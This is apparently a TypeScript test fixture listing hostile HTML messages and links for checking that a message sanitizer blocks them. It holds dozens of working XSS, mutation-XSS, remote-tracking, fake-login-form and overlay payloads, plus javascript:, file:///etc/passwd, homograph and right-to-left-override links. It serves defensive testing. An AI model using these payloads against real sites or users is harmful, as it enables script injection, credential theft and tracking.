/** A message that attacks its viewer. `host` must never receive a request. */
export interface Attack {
  readonly name: string
  readonly html: (host: string) => string
}

const attacksOf = (messages: (host: string) => Readonly<Record<string, string>>): readonly Attack[] =>
  Object.keys(messages('')).map((name) => ({ name, html: (host) => messages(host)[name] ?? '' }))

// A running script leaves a mark for the cases to find, first in its own frame, where it may always write.
const run = "self.owned=1;top.owned=1;parent.document.title='owned';document.title='owned'"

/** Messages that load or run something by themselves: tracking and scripts. */
export const loadingAttacks = attacksOf((host) => ({
  'img src': `<img src="${host}/1.png">`,
  'img src without quotes and scheme': `<img src=${host.replace('http:', '')}/2.png>`,
  'img srcset': `<img srcset="${host}/3.png 1x, ${host}/3b.png 2x">`,
  'picture source': `<picture><source srcset="${host}/4.png"><img alt="x"></picture>`,
  'input type=image': `<input type="image" src="${host}/5.png">`,
  'image, the old name of img': `<image src="${host}/6.png">`,
  'lowsrc and dynsrc': `<img lowsrc="${host}/7.png" dynsrc="${host}/7.mp4">`,
  'a tracking pixel': `<img src="${host}/8.gif?player=1" width="1" height="1" loading="eager">`,
  'body background': `<body background="${host}/9.png">`,
  'table and cell background': `<table background="${host}/10.png"><td background="${host}/10b.png">x`,
  'style attribute': `<p style="background-image:url(${host}/11.png)">x</p>`,
  'style attribute with escapes': `<p style="background:\\75\\72\\6c('${host}/12.png')">x</p>`,
  'style attribute with image-set': `<p style='background:image-set("${host}/13.png" 1x)'>x</p>`,
  'style attribute with a variable': `<p style="--a:url(${host}/14.png);background:var(--a)">x</p>`,
  'style @import with a string': `<style>@import "${host}/15.css";</style>`,
  'style @import with url()': `<style>@import url(${host}/16.css) screen;</style>`,
  'style background': `<style>body{background:url("${host}/17.png")}</style>`,
  'style font': `<style>@font-face{font-family:f;src:url(${host}/18.woff2)}p{font-family:f}</style>`,
  'style content': `<style>p::after{content:url(${host}/19.png)}</style>`,
  'style cursor and list': `<style>*{cursor:url(${host}/20.cur),auto;list-style:url(${host}/20.png)}</style>`,
  'style in a drawing': `<svg><style>rect{fill:url(${host}/21.svg#a)}</style><rect width="9" height="9"/></svg>`,
  'a font of its own': `<style>@font-face{font-family:f;src:url(data:font/woff2;base64,AAAA)}p{font-family:f}</style>`,
  'link stylesheet': `<link rel="stylesheet" href="${host}/22.css">`,
  'link hints': ['preload', 'prefetch', 'preconnect', 'dns-prefetch', 'icon', 'modulepreload']
    .map((rel) => `<link rel="${rel}" as="image" href="${host}/23.png">`)
    .join(''),
  'video poster and src': `<video autoplay muted poster="${host}/24.png" src="${host}/24.mp4"></video>`,
  'video source and track': `<video autoplay><source src="${host}/25.mp4"><track default src="${host}/25.vtt"></video>`,
  audio: `<audio autoplay src="${host}/26.mp3"></audio><bgsound src="${host}/26.mid">`,
  'svg image': `<svg><image href="${host}/27.png" xlink:href="${host}/27b.png" width="9" height="9"/></svg>`,
  'svg use': `<svg><use href="${host}/28.svg#a"/></svg>`,
  'svg filter': `<svg><filter id="a"><feImage href="${host}/29.png"/></filter><rect filter="url(#a)" width="9" height="9"/></svg>`,
  'svg paints': `<svg><rect fill="url(${host}/30.svg#a)" mask="url('${host}/30.svg#b')" width="9" height="9"/></svg>`,
  'svg script and onload': `<svg onload="${run}"><script href="${host}/31.js"></script></svg>`,
  'svg animation': `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y="9">x</text></a></svg>`,
  iframe: `<iframe src="${host}/32"></iframe>`,
  'iframe srcdoc': `<iframe srcdoc="<script>${run}</script><img src=${host}/33.png>"></iframe>`,
  'object and embed': `<object data="${host}/34"></object><embed src="${host}/34b"><applet code="${host}/34c"></applet>`,
  frameset: `<frameset><frame src="${host}/35"></frameset>`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${host}/36">`,
  base: `<base href="${host}/"><img src="37.png"><a href="37">x</a>`,
  script: `<script>${run}</script><script src="${host}/38.js"></script><script type="module">import "${host}/38m.js"</script>`,
  handlers: `<img src=x onerror="${run}"><body onload="${run}"><details open ontoggle="${run}">x</details><marquee onstart="${run}">x</marquee>`,
  'noscript and template': `<noscript><img src="${host}/39.png"></noscript><template><img src="${host}/39b.png" onerror="${run}"></template>`,
  'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="img-src *"><img src="${host}/40.png">`,
  'ping and manifest': `<a href="https://a.example/" ping="${host}/41">x</a><link rel="manifest" href="${host}/41.json">`
}))

/** Markup that changes when it is parsed a second time. */
export const mutatingAttacks = attacksOf(() => ({
  'mglyph in a table': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></table></mtext></math>`,
  'style in a form in math': `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}"></style></mglyph></form></mtext></math>`,
  'noscript in an attribute': `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  'a title that ends itself': `<svg></p><style><a id="</style><img src=1 onerror=${run}>"></svg>`,
  'a comment that ends early': `<!--><img src=x onerror="${run}">--><!-- --!><img src=x onerror="${run}"> -->`,
  'CDATA in a drawing': `<svg><![CDATA[><img src=x onerror="${run}">]]></svg>`,
  'xmp and plaintext': `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp><listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  'textarea and select': `<textarea></p><p title="</textarea><img src=x onerror=${run}>"></textarea><select><style></select><img src=x onerror="${run}">`,
  foreignObject: `<svg><foreignObject><math><mi><style><img src=x onerror="${run}"></style></mi></math></foreignObject></svg>`,
  'annotation-xml': `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${run}"></style></annotation-xml></math>`,
  'half a tag': `<img src=x onerror="${run}"//<b <i onclick="${run}" <script>${run}`,
  'NUL and odd names': `<scr\u0000ipt>${run}</scr\u0000ipt><img/src=x/onerror="${run}"><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  'clobbered names': `<form id="x"><input name="attributes"><input name="parentNode"><img name="body" src=x onerror="${run}"></form><a id="document">x</a>`
}))

/** Messages that invite typing or clicks, or cover everything else. */
export const reachingAttacks = attacksOf((host) => ({
  'a form that asks for a password': `<form action="${host}/50" method="post"><input name="p" type="password" autofocus onfocus="this.form.submit()"><button formaction="${host}/50b">Sign in</button></form>`,
  autofocus:
    '<input autofocus><button autofocus>x</button><a href="#" tabindex="0" autofocus>x</a><div contenteditable autofocus>x</div>',
  'a dialog':
    '<dialog open style="position:fixed;inset:0"><h1>Session expired</h1><form method="dialog"><button>OK</button></form></dialog>',
  'a popover that opens': `<button popovertarget="a" command="show-modal" commandfor="a">x</button><div id="a" popover>x<img src="${host}/51.png"></div>`,
  'an overlay': '<div style="position:fixed;inset:-9999px;z-index:2147483647;background:#fff">Session expired</div>',
  'another window': `<a href="${host}/52" target="_top" download>x</a><a href="${host}/52" target="_blank" accesskey="x">x</a>`,
  'names that every object has': `<p constructor="${host}/53" __proto__="${host}/53" tostring="${host}/53">x</p><constructor src="${host}/53">x</constructor><__proto__ href="${host}/53">x</__proto__>`
}))

/** A link with its expected question or refusal. `host` is the same as for attacks. */
export interface LinkCase {
  readonly name: string
  readonly href: (host: string) => string
  readonly refusal?: string
  readonly shown?: string
  readonly warning?: string
}

const encrypted = (host: string): string => host.replace('http:', 'https:')

/** Links that pretend to lead elsewhere, or lead to forbidden addresses. */
export const linkCases: readonly LinkCase[] = [
  { name: 'javascript:', href: () => 'javascript:alert(document.domain)', refusal: 'it runs a program' },
  { name: 'javascript: with a line break', href: () => 'java&#10;script:alert(1)', refusal: 'it runs a program' },
  { name: 'data:', href: () => 'data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;', refusal: 'its own page' },
  { name: 'file:', href: () => 'file:///etc/passwd', refusal: 'files on this machine' },
  { name: 'smb:', href: (host) => `${host.replace('http:', 'smb:')}/share`, refusal: 'files on this machine' },
  { name: 'a custom scheme', href: () => 'pitboss://bonuses/1', refusal: 'another program' },
  { name: 'http:', href: (host) => `${host}/60`, refusal: 'not encrypted' },
  {
    name: 'credentials',
    href: (host) => `${encrypted(host).replace('//', '//casino.example@')}/61`,
    refusal: 'user name'
  },
  { name: '8 KB', href: (host) => `${encrypted(host)}/${'a'.repeat(8192)}`, refusal: 'longer than 2,000' },
  {
    name: 'a homograph',
    href: () => 'https://c\u0430sino.example/',
    shown: 'https://xn--csino-4ve.example/',
    warning: 'another script'
  },
  {
    name: 'a right-to-left override',
    href: (host) => `${encrypted(host)}/\u202egpj.exe`,
    warning: 'direction'
  }
]
